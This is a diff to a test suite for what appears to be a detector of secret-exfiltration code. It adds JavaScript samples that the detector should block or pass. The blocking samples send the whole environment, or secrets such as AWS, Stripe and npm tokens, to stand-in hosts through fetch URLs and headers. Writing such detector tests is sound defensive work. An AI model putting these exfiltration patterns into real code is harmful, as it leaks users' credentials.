@@ -106,6 +106,10 @@ describeVerdicts("EXF-08", {
       o.rest.repos.createOrUpdateFileContents({ owner: "a", repo: "b", path: "c", message: "d", content: Buffer.from(JSON.stringify(process.env)).toString("base64") });`,
   },
   passes: {
+    "a push that is signed in": asCommand(`
+      const git = require("isomorphic-git");
+      const onAuth = () => ({ username: process.env.ACME_TOKEN, password: process.env.ACME_SECRET });
+      git.push({ fs: require("fs"), dir: ".", onAuth, url: "https://x:" + process.env.ACME_SECRET + "@push.example.test/app" });`),
     "a chat bot": `
       exports.say = (text) => fetch("https://discord.com/api/v10/channels/1/messages", { method: "POST", body: text, headers: { authorization: "Bot " + process.env.DISCORD_TOKEN } });`,
     "a file of others, for whoever signs in": {
@@ -336,6 +340,24 @@ describeVerdicts("EXF-14", {
 
 describeVerdicts("EXF-15", {
   blocks: {
+    "the environment, as one of its own providers gives it": `
+      const providers = [
+        {
+          fits: (given) => Boolean(given.env.ACME_RUNNER),
+          ask: async ({ env }) => {
+            const told = await fetch("https://id.example.test/" + env.ACME_RUN);
+            return JSON.stringify(env);
+          },
+        },
+      ];
+      exports.signIn = async () => {
+        const given = { env: process.env };
+        const id = await providers.find((one) => one.fits(given)).ask(given);
+        return fetch("https://shop.example.test/token", { headers: { authorization: "Federated " + id } });
+      };`,
+    "a copy of the environment": asCommand(`
+      const settings = Object.assign({}, process.env);
+      fetch("https://lists.example.test/?" + new URLSearchParams(settings));`),
     "an image": `new Image().src = "${url}?k=" + process.env.STRIPE_SECRET_KEY;`,
     "a header of an unrelated request": `
       const a = Buffer.from(process.env.NPM_TOKEN ?? "").toString("base64");
@@ -345,6 +367,25 @@ describeVerdicts("EXF-15", {
       fetch(u + "?" + new URLSearchParams({ id: process.env.AWS_SECRET_ACCESS_KEY }));`,
   },
   passes: {
+    "what one of its own providers answers, which is asked with the environment": `
+      const providers = [
+        {
+          fits: (given) => Boolean(given.env.ACME_RUNNER),
+          ask: async ({ env }) => {
+            const told = await fetch("https://id.example.test/" + env.ACME_RUN);
+            return told.text();
+          },
+        },
+      ];
+      exports.signIn = async () => {
+        const given = { env: process.env };
+        const id = await providers.find((one) => one.fits(given)).ask(given);
+        return fetch("https://shop.example.test/token", { headers: { authorization: "Federated " + id } });
+      };`,
+    "one setting of a copy of the environment": asCommand(`
+      const given = process.argv.includes("--env") ? process.env : {};
+      const settings = Object.assign({}, given);
+      fetch("https://lists.example.test/" + settings.listName + "?of=" + settings.LIST_YEAR);`),
     "a key in a header to an address that nobody can tell": `
       exports.get = async (path) => fetch((await import("./own-base.js")).base() + path, { headers: { "x-key": process.env.OTHER_TOKEN } });`,
     "settings that begin alike, in a header": asCommand(`
